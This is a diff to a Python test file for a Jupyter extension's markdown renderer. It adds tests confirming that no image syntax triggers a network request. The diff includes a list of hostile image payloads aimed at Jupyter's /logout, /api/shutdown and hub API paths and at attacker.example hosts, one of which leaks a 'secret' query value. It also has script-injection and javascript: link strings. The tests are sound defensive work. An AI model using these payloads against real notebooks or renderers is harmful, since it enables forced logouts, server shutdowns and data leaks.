@@ -10,11 +10,48 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from oblix_jupyter.render import (
-    image_is_local,
+    image_is_inline,
     inert_markdown,
     link_allowed,
     markdown_html,
 )
+
+PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=="
+# Images that would make the browser request something: another host, or the Jupyter
+# server's own URLs (a GET to /logout logs out; on a hub, the hub's API is one path away).
+FETCHING_IMAGES = [
+    "![x](/logout)",
+    "![x](../api/contents?content=1)",
+    "![x](files/x.png)",
+    "![x](./x.png)",
+    "![x](//attacker.example/x.png)",
+    "![x](\\\\attacker.example/x.png)",
+    "![x](/\\attacker.example/x.png)",
+    "![x]( /logout )",
+    "![x](</hub/api/users/me/server>)",
+    '![x](/logout "a title")',
+    "![x](%2Flogout)",
+    "![x](&#47;logout)",
+    "![x](https://attacker.example/x.png)",
+    "![x](HTTP://attacker.example/x.png)",
+    "![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)",
+    "![x](data:text/html;base64,PHNjcmlwdD4=)",
+    "![x][r]\n\n[r]: /logout",
+    "![x]\n\n[x]: /api/shutdown",
+    "![x][]\n\n[x]: <files/x.png>",
+    "[![x](/logout)](https://example.org)",
+    "| a |\n|---|\n| ![x](/logout) |",
+    "# ![x](/logout)",
+    "> ![x](/logout)",
+    "- ![x](/logout)",
+    "<img src=/logout>",
+    '<img srcset="/logout 1x, /api/shutdown 2x">',
+    "<picture><source srcset=/logout><img src=/x></picture>",
+    "<image href=/logout>",
+    "</logout>",
+    "<https://attacker.example/x.png>",
+    "![x](/logout)![y](/logout2)",
+]
 
 PAYLOADS = [
     "<script>window.pwned = 1</script>",
@@ -69,7 +106,7 @@ def assert_inert(rich: str) -> None:
         if "href" in attributes:
             assert link_allowed(attributes["href"]), attributes
         if tag == "img":
-            assert image_is_local(attributes["src"]), attributes
+            assert image_is_inline(attributes["src"]), attributes
         if "style" in attributes:
             assert "url(" not in attributes["style"] and tag == "span", attributes
     for tex in re.findall(r'class="mathjax_process">(.*?)</(?:span|div)>', rich, re.DOTALL):  # all MathJax reads
@@ -85,12 +122,33 @@ def test_every_payload_renders_inert_and_shows_the_raw_html_as_text():
     assert "&lt;script&gt;window.pwned = 1&lt;/script&gt;" in shown  # visible, as the model wrote it
 
 
-def test_an_image_from_another_host_is_a_link_with_its_alt_text_and_a_local_one_loads():
-    rich = markdown_html("![the chart](https://attacker.example/c.png?q=secret) and ![plot](plots/a.png)")
+def test_every_image_is_a_link_with_its_alt_text_even_one_from_the_jupyter_server():
+    rich = markdown_html("![the chart](https://attacker.example/c.png?q=secret) and ![plot](plots/a.png) and ![](/logout)")
     tags = acted_on(rich)
     assert ("a", {"href": "https://attacker.example/c.png?q=secret", "title": "image not loaded: https://attacker.example/c.png?q=secret"}) in tags
-    assert ">the chart</a>" in rich
-    assert [attributes["src"] for tag, attributes in tags if tag == "img"] == ["plots/a.png"]
+    assert ("a", {"href": "plots/a.png", "title": "image not loaded: plots/a.png"}) in tags
+    assert ">the chart</a>" in rich and ">plot</a>" in rich and ">image</a>" in rich
+    assert not [tag for tag, _ in tags if tag == "img"]
+
+
+def test_no_image_syntax_makes_a_tag_that_fetches():
+    for attack in FETCHING_IMAGES:
+        rich = markdown_html(f"Before ![ok]({PIXEL}) {attack} after.")
+        assert_inert(rich)
+        sources = [attributes.get("src") for tag, attributes in acted_on(rich) if tag in ("img", "source", "image")]
+        assert sources == [PIXEL], (attack, rich)
+
+
+def test_an_inline_raster_image_stays_an_image_and_a_link_to_one_is_text():
+    rich = markdown_html(f"![dot]({PIXEL}) [as a link]({PIXEL}) <{PIXEL}>")
+    tags = acted_on(rich)
+    assert tags.count(("img", {"src": PIXEL, "alt": "dot"})) == 1
+    assert not [tag for tag, _ in tags if tag == "a"], rich
+    assert f" as a link {PIXEL}" in rich  # the autolink's address, as text
+    for address in (PIXEL, "data:image/png;base64,iVBORw0K", "DATA:IMAGE/JPEG;base64,/9j/", " data:image/webp;base64,UklG"):
+        assert image_is_inline(address), address
+    for address in ("data:image/svg+xml;base64,PHN2Zz4=", "data:image/png+xml,x", "data:text/html,<b>", "/x.png", "image/png"):
+        assert not image_is_inline(address), address
 
 
 def test_script_links_are_plain_text():
@@ -137,9 +195,18 @@ def test_inert_markdown_escapes_html_outside_code_and_keeps_code_as_written():
     assert inert_markdown("no html here, *just* `code`") == "no html here, *just* `code`"
 
 
-def test_inert_markdown_turns_remote_images_into_links_and_drops_script_links():
-    inert = inert_markdown("![chart](https://attacker.example/c.png) ![](//x.example/y.png) ![plot](a.png) [x](javascript:alert(1)) [ok](https://a.example)")
-    assert inert == "[chart](https://attacker.example/c.png) [image](//x.example/y.png) ![plot](a.png) [x]&#40;javascript:alert(1)) [ok](https://a.example)"
+def test_inert_markdown_turns_every_image_into_a_link_and_drops_script_links():
+    inert = inert_markdown(
+        "![chart](https://attacker.example/c.png) ![](//x.example/y.png) ![plot](a.png) ![out](/logout) "
+        f"![dot]({PIXEL}) [x](javascript:alert(1)) [ok](https://a.example)"
+    )
+    assert inert == (
+        "[chart](https://attacker.example/c.png) [image](//x.example/y.png) [plot](a.png) [out](/logout) "
+        f"[dot]&#40;{PIXEL}) [x]&#40;javascript:alert(1)) [ok](https://a.example)"
+    )
+    for attack in FETCHING_IMAGES:
+        for tag, attributes in trusting_renderer_output(inert_markdown(attack)):
+            assert tag not in ("img", "source", "image", "picture"), (attack, tag, attributes)
 
 
 def trusting_renderer_output(markdown: str) -> list[tuple[str, dict[str, str]]]:
@@ -148,7 +215,7 @@ def trusting_renderer_output(markdown: str) -> list[tuple[str, dict[str, str]]]:
 
 
 fragments = st.sampled_from(
-    [*PAYLOADS, "`", "``", "```", "\n", "\n\n", "    ", "> ", "- ", "| a | b |\n|---|---|\n", "*", "_", "[", "]", "(", ")", "!", "<", ">", "$", "\\", "&#97;", "text", "**bold**"]
+    [*PAYLOADS, *FETCHING_IMAGES, f"![ok]({PIXEL})", "`", "``", "```", "\n", "\n\n", "    ", "> ", "- ", "| a | b |\n|---|---|\n", "*", "_", "[", "]", "(", ")", "!", "<", ">", "$", "\\", "&#97;", "text", "**bold**"]
 )
 
 
@@ -164,6 +231,6 @@ def test_whatever_the_text_a_trusting_renderer_of_the_inert_markdown_runs_and_lo
     for tag, attributes in trusting_renderer_output(inert_markdown(text)):
         assert tag in ALLOWED_TAGS and not any(name.startswith("on") for name in attributes), (tag, text)
         if tag == "img":
-            assert image_is_local(attributes["src"]), (attributes, text)
+            assert image_is_inline(attributes["src"]), (attributes, text)
         if tag == "a":
             assert link_allowed(attributes["href"]), (attributes, text)
